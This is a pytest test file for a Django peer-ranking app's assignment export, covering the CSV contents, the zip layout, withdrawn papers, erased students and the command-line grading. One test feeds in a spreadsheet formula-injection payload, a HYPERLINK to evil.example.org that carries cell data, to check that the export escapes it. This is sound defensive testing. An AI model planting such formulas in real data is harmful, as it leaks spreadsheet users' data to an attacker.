"""Everything about an assignment, as files that the command line reads."""

import codecs
import csv
import io
import json
import zipfile

import pytest
from django.core.files.base import ContentFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from peerorder.cli import run
from peerorder.web.assignments.models import Stage
from peerorder.web.audit.models import Event
from peerorder.web.courses.models import Member
from peerorder.web.lifecycle.export import export_of
from peerorder.web.monitor.forecast import forecast_round
from peerorder.web.papers.models import Kind
from peerorder.web.papers.services import withdraw
from peerorder.web.people.models import Person
from peerorder.web.ranking.models import Handout, Problem, Slot
from tests.web.factories import enrol, save_ranking, submit_ranking
from tests.web.lifecycle.conftest import hand_in, hand_out


@pytest.fixture
def ranked(assignment, students, papers):
    """Everybody ranked the three papers after their own, the best paper being the first."""
    at_ranking(assignment, comments=True)
    n = len(papers)
    slots = hand_out(
        assignment, {student: [papers[(at + by) % n] for by in (1, 2, 3)] for at, student in enumerate(students)}
    )
    for grader, mine in slots.items():
        best = sorted(mine, key=lambda slot: slot.paper_id)
        comments = dict.fromkeys((slot.token for slot in best), 'Good, "really"\ngood.')
        submit_ranking(assignment, grader, content([[slot.token] for slot in best], comments=comments))
    return slots


def at_ranking(assignment, **fields):
    for name, value in {"stage": Stage.RANKING, **fields}.items():
        setattr(assignment, name, value)
    assignment.save()


def content(order, unjudged=(), comments=None, **orders):
    return {"orders": {"0": order, **orders}, "unjudged": [*unjudged], "comments": comments or {}}


def exported(client, assignment):
    answer = client.get(f"/assignments/{assignment.pk}/export/everything.zip")
    assert answer.status_code == 200
    assert answer["Content-Type"] == "application/zip"
    return zipfile.ZipFile(io.BytesIO(b"".join(answer.streaming_content)))


def rows(archive, name):
    return list(csv.DictReader(io.StringIO(archive.read(name).decode("utf-8-sig"))))


def test_the_command_line_grades_what_was_exported(ranked, assignment, instructor, students, enter, tmp_path):
    exported(enter(instructor), assignment).extractall(tmp_path)
    files = {name: str(tmp_path / f"{name}.csv") for name in ("rankings", "roster", "handout", "grades")}
    command = ["grade", files["rankings"], "--roster", files["roster"], "--handout", files["handout"]]
    assert run([*command, "--rule", "borda", "--out", files["grades"]]) == 0
    with (tmp_path / "grades.csv").open() as stream:
        order = [row["paper"] for row in csv.DictReader(stream)]
    assert sorted(order) == sorted(student.student for student in students)
    assert order[0] == "bo"
    assert order[-1] == "ivy"


def test_all_files_are_there(ranked, assignment, instructor, students, papers, enter):
    slot = ranked[students[0]][0]
    Problem.objects.create(slot=slot, kind=Problem.Kind.EMPTY, text="Nothing in it")
    archive = exported(enter(instructor), assignment)
    roster = rows(archive, "roster.csv")
    assert [row["student"] for row in roster] == sorted(student.student for student in students)
    assert roster[0] == {
        "student": "bo",
        "name": "Bo",
        "email": "bo@example.edu",
        "paper": "bo",
        "role": "student",
        "section": "",
        "team": "",
    }
    tables = [name for name in archive.namelist() if name.endswith(".csv")]
    for_people = {name for name in tables if archive.read(name).startswith(codecs.BOM_UTF8)}
    assert for_people == {"codes.csv", "withdrawn.csv", "comments.csv", "problems.csv", "events.csv"}
    assert {row["paper"]: row["code"] for row in rows(archive, "codes.csv")}["bo"] == papers[0].code
    assert len(rows(archive, "handout.csv")) == 24
    assert len(rows(archive, "rankings.csv")) == 24
    assert {row["comment"] for row in rows(archive, "comments.csv")} == {'Good, "really"\ngood.'}
    assert [(row["grader"], row["paper"], row["kind"]) for row in rows(archive, "problems.csv")] == [
        ("bo", "cy", "empty")
    ]
    saves = [json.loads(line) for line in archive.read("saves.jsonl").decode().splitlines()]
    assert len(saves) == 8
    assert saves[0]["content"]["orders"] == {"0": [["cy"], ["di"], ["ed"]]}
    assert archive.read(f"papers/{papers[0].code}.md").decode() == "My essay."
    assert rows(archive, "events.csv")[-1]["verb"] == "exported"
    assert Event.objects.get(verb="exported").person_id == instructor.person_id


def test_ties_unjudged_papers_and_top_ups(assignment, students, papers, instructor, enter):
    at_ranking(assignment)
    slots = hand_out(assignment, {students[0]: papers[1:4], students[1]: papers[2:5]})
    a, b, c = slots[students[0]]
    more = Handout.objects.create(assignment=assignment, why=Handout.Why.TOP_UP, ready_at=timezone.now())
    d, e = (
        Slot.written.create(assignment=assignment, handout=more, grader=students[0], paper=paper, position=at, part=1)
        for at, paper in enumerate(papers[4:6], 3)
    )
    top_up = {"1": [[e.token], [d.token]]}
    submit_ranking(assignment, students[0], content([[a.token, b.token], [c.token]], **top_up))
    # What is saved and not handed in does not count.
    save_ranking(assignment, students[0], content([[c.token], [b.token], [a.token]], **top_up))
    save_ranking(assignment, students[1], content([[slot.token] for slot in slots[students[1]]]))
    got = [tuple(row.values()) for row in rows(exported(enter(instructor), assignment), "rankings.csv")]
    assert got == [
        *(("bo", "cy", "1", "1"), ("bo", "di", "1", "1"), ("bo", "ed", "3", "1")),
        *(("bo", "gus", "1", "2"), ("bo", "fay", "2", "2")),
    ]


def test_papers_that_were_not_judged_have_no_rank(assignment, students, papers, instructor, enter):
    at_ranking(assignment)
    a, b = hand_out(assignment, {students[0]: papers[1:3]})[students[0]]
    submit_ranking(assignment, students[0], content([[b.token]], [a.token]))
    got = [tuple(row.values()) for row in rows(exported(enter(instructor), assignment), "rankings.csv")]
    assert got == [("bo", "di", "1", "1"), ("bo", "cy", "", "1")]


def test_ranks_leave_no_gap_where_a_paper_was_taken_out(assignment, students, papers, instructor, enter):
    at_ranking(assignment)
    a, b, c, d = hand_out(assignment, {students[0]: papers[1:5]})[students[0]]
    submit_ranking(assignment, students[0], content([[a.token], [b.token, c.token], [d.token]]))
    withdraw(papers[1], instructor.person, "Empty.")
    ranks = [(row["paper"], row["rank"]) for row in rows(exported(enter(instructor), assignment), "rankings.csv")]
    assert ranks == [("di", "1"), ("ed", "1"), ("fay", "3")]


def test_a_comment_on_a_withdrawn_paper_is_no_ranking(assignment, students, papers, instructor, enter):
    at_ranking(assignment, comments=True)
    a, b = hand_out(assignment, {students[0]: papers[1:3]})[students[0]]
    withdraw(papers[1], instructor.person, "Empty.")
    submit_ranking(assignment, students[0], content([[b.token]], comments={a.token: "Empty?", b.token: "Good."}))
    archive = exported(enter(instructor), assignment)
    assert [tuple(row.values()) for row in rows(archive, "rankings.csv")] == [("bo", "di", "1", "1")]
    assert {row["paper"]: row["comment"] for row in rows(archive, "comments.csv")} == {"cy": "Empty?", "di": "Good."}


def test_a_paper_that_was_taken_out_gets_no_place_no_mark_and_is_asked_of_nobody(
    ranked, assignment, students, papers, instructor, enter, tmp_path
):
    """A paper that staff took out while others ranked still got a place and a mark."""
    withdraw(papers[1], instructor.person, "Somebody else wrote it.")
    others = [[slot.token] for slot in ranked[students[0]] if slot.paper_id != papers[1].pk]
    submit_ranking(assignment, students[0], content(others))
    client = enter(instructor)
    page = client.get(f"/assignments/{assignment.pk}/export/")
    assert page.context["withdrawn"] == {papers[1].pk: str(students[1])}
    archive = exported(client, assignment)
    for name in ("codes.csv", "handout.csv", "rankings.csv", "roster.csv"):
        named = {row["paper"] for row in rows(archive, name)}
        assert "cy" not in named
        assert named - {""} == {student.student for student in students} - {"cy"}
    assert [(row["paper"], row["code"], row["reason"]) for row in rows(archive, "withdrawn.csv")] == [
        ("cy", papers[1].code, "Somebody else wrote it.")
    ]
    assert f"withdrawn/{papers[1].code}.md" in archive.namelist()
    assert f"papers/{papers[1].code}.md" not in archive.namelist()
    assert archive.read("README.txt").decode().splitlines()[-1].endswith(": cy")
    expected, _ = forecast_round(assignment)
    assert (expected.papers, expected.now.rankings) == (7, len(rows(archive, "rankings.csv")))
    # Who ranked it, who was no longer asked to, and its author have done all that was asked.
    archive.extractall(tmp_path)
    words = [str(tmp_path / word) if "." in word else word for word in page.context["command"].split()[1:]]
    students_file, grades = tmp_path / "students.csv", tmp_path / "grades.csv"
    outputs = ["--out", str(grades), "--students", str(students_file), "--review-weights", "done=100"]
    assert run([*words, "--rule", "borda", *outputs]) == 0
    with grades.open() as stream:
        assert {row["paper"] for row in csv.DictReader(stream)} == {each.student for each in students} - {"cy"}
    with students_file.open(encoding="utf-8-sig") as stream:
        marks = {row["student"]: row for row in csv.DictReader(stream)}
    assert {float(row["review_mark"]) for row in marks.values()} == {100}
    assert [who for who, row in marks.items() if not row["mark"]] == ["cy"]


def test_it_asks_the_database_as_often_whatever_the_size_of_the_class(
    assignment, course, instructor, django_assert_num_queries
):
    def grow(many, first):
        """More students with papers, who rank three of them each, can judge but two, comment and report."""
        members = [enrol(course, f"s{first + number}", team=f"t{number // 2}") for number in range(many)]
        papers = [hand_in(assignment, member) for member in members]
        bundles = {member: [papers[(at + by) % many] for by in (1, 2, 3)] for at, member in enumerate(members)}
        for grader, slots in hand_out(assignment, bundles, why).items():
            tokens = [slot.token for slot in slots]
            said = content([[tokens[0]], [tokens[1]]], [tokens[2]], dict.fromkeys(tokens, "Good."))
            submit_ranking(assignment, grader, said)
            Problem.objects.create(slot=slots[0], kind=Problem.Kind.EMPTY)

    at_ranking(assignment, comments=True)
    why = Handout.Why.FIRST
    grow(4, 0)
    with CaptureQueriesContext(connection) as few:
        export_of(assignment).close()
    why = Handout.Why.JOINED
    grow(40, 4)
    with django_assert_num_queries(len(few)):
        out = export_of(assignment)
    with out, zipfile.ZipFile(out) as archive:
        assert len(rows(archive, "rankings.csv")) == 3 * 44


def test_a_team_shares_a_paper(assignment, students, instructor, enter):
    for member in students[:2]:
        member.team = "Owls"
        member.save()
    hand_in(assignment, *students[:2])
    roster = {row["student"]: row["paper"] for row in rows(exported(enter(instructor), assignment), "roster.csv")}
    assert roster["bo"] == roster["cy"] == "Owls"
    assert roster["di"] == ""


def test_files_go_under_their_codes(assignment, students, instructor, enter, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    paper = hand_in(assignment, students[0])
    version = paper.current
    version.kind, version.text, version.original_name = Kind.PDF, "", "bo-the-great.pdf"
    version.file.save("x.pdf", ContentFile(b"%PDF-1.7 ..."))
    archive = exported(enter(instructor), assignment)
    assert archive.read(f"papers/{paper.code}.pdf") == b"%PDF-1.7 ..."
    assert not any("great" in name for name in archive.namelist())
    version.file.storage.delete(version.file.name)
    assert f"papers/{paper.code}.missing.txt" in exported(enter(instructor), assignment).namelist()


def test_whoever_was_erased_appears_under_the_code(ranked, assignment, students, instructor, enter):
    member = students[0]
    Person.objects.filter(pk=member.person_id).update(name="", email="", erased_at=timezone.now())
    member.student, member.removed_at = "x7k2", timezone.now()
    member.save()
    archive = exported(enter(instructor), assignment)
    assert any(row["student"] == "x7k2" and row["name"] == "" for row in rows(archive, "roster.csv"))
    assert any(row["grader"] == "x7k2" for row in rows(archive, "rankings.csv"))
    everything = b"".join(archive.read(name) for name in archive.namelist()).decode()
    assert "bo@example.edu" not in everything


def test_an_empty_assignment_can_be_exported(assignment, instructor, enter):
    archive = exported(enter(instructor), assignment)
    assert archive.read("rankings.csv").decode() == "grader,paper,rank,ballot\n"


def test_a_page_says_what_is_in_it_before_anything_is_downloaded(ranked, assignment, instructor, enter, tmp_path):
    """m20: one click on a button downloaded all names and papers; m19: nothing said how to get marks."""
    client = enter(instructor)
    page = client.get(f"/assignments/{assignment.pk}/export/")
    assert page["Content-Type"].startswith("text/html")
    assert not Event.objects.filter(verb="exported").exists()
    assert (page.context["students"], page.context["rankings"], page.context["removed"]) == (8, 8, [])
    assert page.context["size"] == sum(paper.current.size for paper in assignment.papers.all())
    archive = exported(client, assignment)
    assert Event.objects.filter(verb="exported").count() == 1
    archive.extractall(tmp_path)
    command = page.context["command"]
    assert command in (tmp_path / "README.txt").read_text()
    program, *words = [str(tmp_path / word) if "." in word else word for word in command.split()]
    assert program == "peerorder"
    assert run([*words, "--rule", "borda", "--out", str(tmp_path / "grades.csv")]) == 0
    with (tmp_path / "grades.csv").open() as stream:
        assert all(float(row["mark"]) > 0 for row in csv.DictReader(stream))


def test_only_instructors(assignment, students, assistant, outsider, enter):
    for path in (f"/assignments/{assignment.pk}/export/", f"/assignments/{assignment.pk}/export/everything.zip"):
        for member, status in ((assistant, 403), (students[0], 403), (outsider, 404)):
            assert enter(member).get(path).status_code == status


def test_no_comment_is_a_formula_and_no_id_changes(assignment, students, papers, instructor, enter):
    at_ranking(assignment, comments=True)
    grader = students[0]
    Person.objects.filter(pk=grader.person_id).update(name="=1+1")
    type(grader).objects.filter(pk=grader.pk).update(student="=s1")
    slots = hand_out(assignment, {grader: papers[1:4]})[grader]
    formula = '=HYPERLINK("http://evil.example.org/"&A2,"see")'
    comments = dict.fromkeys((slot.token for slot in slots), formula)
    submit_ranking(assignment, grader, content([[slot.token] for slot in slots], comments=comments))
    Problem.objects.create(slot=slots[0], kind="empty", text=formula)
    archive = exported(enter(instructor), assignment)
    assert {row["comment"] for row in rows(archive, "comments.csv")} == {f"'{formula}"}
    assert {row["text"] for row in rows(archive, "problems.csv")} == {f"'{formula}"}
    for name in ("roster.csv", "handout.csv", "rankings.csv"):
        who = {row.get("grader") or row.get("student") for row in rows(archive, name)}
        assert "=s1" in who
        assert "'=s1" not in who


def test_page_and_files_agree_after_somebody_was_removed(ranked, assignment, instructor, students, enter):
    Member.objects.filter(pk=students[0].pk).update(removed_at=timezone.now())
    client = enter(instructor)
    page = client.get(f"/assignments/{assignment.pk}/export/")
    archive = exported(client, assignment)
    assert page.context["students"] == len(rows(archive, "roster.csv")) == 8
    assert page.context["rankings"] == len({row["grader"] for row in rows(archive, "rankings.csv")}) == 8
    assert page.context["removed"] == [students[0]]
    assert "1 of these students was removed" in page.content.decode()
    assert (
        "removed from the course; what they handed in is in the files, and counts: bo"
        in archive.read("README.txt").decode()
    )
